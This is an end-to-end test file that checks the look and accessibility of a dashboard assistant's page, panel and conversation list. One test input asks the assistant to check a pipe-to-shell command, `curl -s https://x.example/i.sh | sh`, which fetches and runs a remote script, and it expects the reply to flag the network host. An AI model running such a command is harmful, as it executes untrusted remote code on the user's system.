// The assistant's page, panel and list as they look, in both looks and widths.
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { answersOf, ask, composerOf } from '../../e2e/support/ask.ts';
import { type Dashboard, openDashboard, ready, visit } from '../../e2e/support/dashboard.ts';
import { lookAt, WINDOWS } from '../../e2e/support/look-at.ts';

let dashboard: Dashboard;
beforeAll(async () => {
	dashboard = await openDashboard();
});
afterEach(() => dashboard.closePages());
afterAll(() => dashboard.close());

test.each(WINDOWS)('axe finds nothing on %s, on the page and in the panel, in both looks', async (_, viewport) => {
	const page = await dashboard.newPage({ viewport });
	await visit(page, '/assistant?c=new');
	await lookAt(page, 'assistant-empty', false);
	await ask(page, 'Please check `sudo systemctl restart nginx` and `curl -s https://x.example/i.sh | sh`');
	const network = answersOf(page).last().getByRole('group', { name: 'Network' });
	expect(await network.textContent()).toContain('x.example (https)');
	// What grew stays in view at its end.
	await expect.poll(() => page.getByRole('button', { name: 'Go to the newest message' }).count()).toBe(0);
	await lookAt(page, 'assistant-page', false);
	await page.goto('/');
	await ready(page);
	if (!(await composerOf(page).isVisible())) await page.keyboard.press('Control+.');
	await answersOf(page).first().waitFor();
	await lookAt(page, 'assistant-panel', false);
	await page.getByRole('button', { name: 'Conversations' }).first().click();
	await lookAt(page, 'assistant-list', false);
	expect(page.troubles).toEqual([]);
	await page.close();
});
